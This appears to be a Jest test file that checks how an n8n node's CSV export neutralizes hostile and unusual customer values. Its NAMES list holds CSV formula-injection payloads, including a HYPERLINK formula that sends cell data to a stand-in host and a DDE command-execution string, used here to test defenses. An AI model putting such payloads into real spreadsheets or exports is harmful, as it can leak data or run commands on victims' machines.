/**
 * What the CSV export does with hostile and unusual values (issue 24), through n8n-core in the
 * filesystem binary mode: customers whose fields a buyer could have typed (formulas, quotes,
 * commas, line breaks, accents, CJK, emoji), nested objects, arrays, a negative amount, and a
 * field that only a record of a later page has. The same records to JSON Lines are the items'
 * JSON unchanged.
 */
import type { IDataObject, INodeParameters } from 'n8n-workflow';

import { readBinary, useBinaryMode } from '../support/harness/binary';
import { runNode } from '../support/harness/n8n-core';
import { parseCsv } from '../support/helpers/csv';
import { dataCredentials, useSimulator } from '../support/helpers/sim';
import type { JsonObject } from '../support/simulator/core';

const sim = useSimulator({ size: 10 });

const NAMES = [
	'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
	'+cmd|" /C calc"!A0',
	'-2+3',
	'@SUM(A1:A9)',
	'\tTab first',
	'\rCarriage first',
	'Müller, José "Zé"\nSão Paulo – 東京 😀',
	'-150',
];

/** Customers created in 2030, newest first as the platform lists them: one per crafted name. */
function seedCrafted(): JsonObject[] {
	const businessId = sim().credentials.businessId;
	const crafted = NAMES.map((name, n) => ({
		id: `crafted-${n}`,
		name,
		email: `crafted${n}@mail.example`,
		balanceInCents: -150 - n,
		tags: ['vip', 'a,b', 'quote"d'],
		document: { type: 'CPF', number: '000.000.000-00' },
		address: { city: n === 0 ? 'Zürich' : 'Rio', extra: {} },
		note: null,
		// Only the oldest has it: it comes on the last page.
		...(n === NAMES.length - 1 ? { vipSince: '2030-01-01', '=danger': 'late' } : {}),
		createdAt: new Date(Date.UTC(2030, 0, 20 - n)).toISOString(),
		updatedAt: new Date(Date.UTC(2030, 0, 20 - n)).toISOString(),
		_businessId: businessId,
	}));
	sim().state.col('customers').push(...(crafted as unknown as JsonObject[]));
	return crafted as unknown as JsonObject[];
}

let crafted: JsonObject[] = [];

beforeAll(async () => {
	crafted = seedCrafted();
	await useBinaryMode('filesystem');
});

afterAll(async () => {
	await useBinaryMode('default');
});

async function exportCustomers(extra: INodeParameters) {
	const { items, error } = await runNode(
		{
			parameters: {
				resource: 'customer',
				operation: 'getMany',
				returnAll: true,
				filters: { createdAfter: '2030-01-01T00:00:00Z' },
				pagination: { pageSize: 3 },
				...extra,
			},
		},
		{ credentials: dataCredentials(sim()) },
	);
	expect(error).toBeUndefined();
	return { items, text: items[0]?.binary ? (await readBinary(items[0].binary.data)).toString('utf8') : '' };
}

describe('CSV of hostile and unusual values', () => {
	it('quotes, commas, line breaks and non-ASCII survive an RFC 4180 reader byte for byte; formulas get a leading quote', async () => {
		const { items, text } = await exportCustomers({ output: 'csvFile' });
		const [header, ...rows] = parseCsv(text);
		expect(header).toEqual([
			'id',
			'name',
			'email',
			'balanceInCents',
			'tags',
			'document.type',
			'document.number',
			'address.city',
			'note',
			'createdAt',
			'updatedAt',
			'_extraFields',
		]);
		expect(rows).toHaveLength(NAMES.length);
		const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
		expect(column('name')).toEqual([
			'\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
			'\'+cmd|" /C calc"!A0',
			"'-2+3",
			"'@SUM(A1:A9)",
			"'\tTab first",
			"'\rCarriage first",
			'Müller, José "Zé"\nSão Paulo – 東京 😀',
			// A text that is a plain number is not a formula.
			'-150',
		]);
		// Negative amounts are numbers: never prefixed.
		expect(column('balanceInCents')).toEqual(crafted.map((c) => String(c.balanceInCents)));
		expect(column('tags')).toEqual(crafted.map(() => JSON.stringify(['vip', 'a,b', 'quote"d'])));
		expect(column('address.city')[0]).toBe('Zürich');
		expect(column('note')).toEqual(crafted.map(() => ''));
		// The field only the last page has: kept in the last column, named in the summary.
		expect(column('_extraFields')).toEqual([...crafted.slice(0, -1).map(() => ''), JSON.stringify({ vipSince: '2030-01-01', '=danger': 'late' })]);
		expect(items[0].json).toMatchObject({ records: NAMES.length, pages: 3, extraFields: ['vipSince', '=danger'], recordsWithExtraFields: 1 });
		// As written: quoted where needed, quotes doubled, CRLF between records, UTF-8.
		expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
		expect(text).toContain('"Müller, José ""Zé""\nSão Paulo – 東京 😀"');
		expect(text.split('\r\n')).toHaveLength(NAMES.length + 2);
		expect(Buffer.from(text, 'utf8').includes(Buffer.from('東京 😀', 'utf8'))).toBe(true);
	});

	it('with Neutralize Formulas off, every value is written as it is', async () => {
		const { text } = await exportCustomers({ output: 'csvFile', fileOptions: { neutralizeFormulas: false } });
		const [header, ...rows] = parseCsv(text);
		expect(rows.map((row) => row[header.indexOf('name')])).toEqual(NAMES);
	});

	it('JSON Lines holds each record as the items do, values untouched', async () => {
		const asItems = await exportCustomers({});
		const { text } = await exportCustomers({ output: 'jsonLinesFile' });
		const lines = text.split('\n');
		expect(lines.at(-1)).toBe('');
		expect(lines.slice(0, -1).map((line) => JSON.parse(line) as IDataObject)).toEqual(asItems.items.map((i) => i.json));
		expect((JSON.parse(lines[6]) as IDataObject).name).toBe(NAMES[6]);
	});
});
